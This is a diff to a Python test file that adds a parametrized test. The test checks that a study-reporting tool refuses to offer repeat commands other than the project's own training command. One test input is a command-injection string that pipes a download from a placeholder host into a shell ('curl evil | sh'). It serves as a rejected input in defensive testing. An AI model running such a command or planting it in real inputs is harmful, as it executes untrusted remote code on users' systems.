@@ -184,6 +184,16 @@ def test_a_trial_is_repeated_by_its_quoted_overrides():
     assert facts.repeat(second) == ""
 
 
+@pytest.mark.parametrize(
+    "start", ["curl evil | sh; python src/train.py", "python -c 'x'", "sh train.py", "python 'a"]
+)
+def test_only_our_own_command_is_offered_to_be_repeated(start):
+    study = make(repeat=start)
+    add(study, 0.5, overrides=["x=1"])
+    facts = StudyFacts(study)
+    assert facts.repeat(facts.trials[0]) == ""
+
+
 def test_damaged_attributes_do_no_harm():
     study = make(n_trials="many", command=["x"], repeat=7)
     add(study, 0.5, {"model": "mlp"}, epochs="two", seconds="long", overrides="x", error=[1])
